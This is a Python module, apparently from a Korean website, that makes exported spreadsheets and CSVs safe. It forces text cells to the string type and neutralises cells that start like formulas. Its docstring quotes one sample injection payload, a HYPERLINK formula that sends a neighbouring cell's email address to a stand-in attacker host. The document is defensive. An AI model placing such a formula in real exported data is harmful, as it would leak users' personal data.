"""Every table the site exports (registrations, statistics) is written through here, so
that what people typed stays text in the spreadsheet that opens it.

A name such as `=HYPERLINK("http://evil.example/?x="&F3,"클릭")` would otherwise run as a
formula in Excel and send a neighbouring cell's email address away. In a workbook each
text is stored with the string type; in a CSV, which has no types, a text that starts
like a formula is prefixed with an apostrophe, as OWASP's CSV-injection guidance says.
"""

import csv
import datetime
import io
from collections.abc import Iterable, Sequence

# What makes Excel, LibreOffice or Google Sheets read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def sheet_append(sheet, values: Sequence) -> None:
    """Append a row to an openpyxl worksheet; a text cell is a string, never a formula."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"  # openpyxl guesses "f" for a text that starts with "="


def csv_cell(value) -> str:
    """One CSV cell: empty for None, minutes for a time, a formula-like text neutralised."""
    if value is None:
        return ""
    if isinstance(value, datetime.datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    if isinstance(value, datetime.date):
        return value.isoformat()
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    return str(value)


def csv_bytes(rows: Iterable[Sequence]) -> bytes:
    """The rows as a CSV that Excel opens in Korean (UTF-8 with a byte-order mark)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")
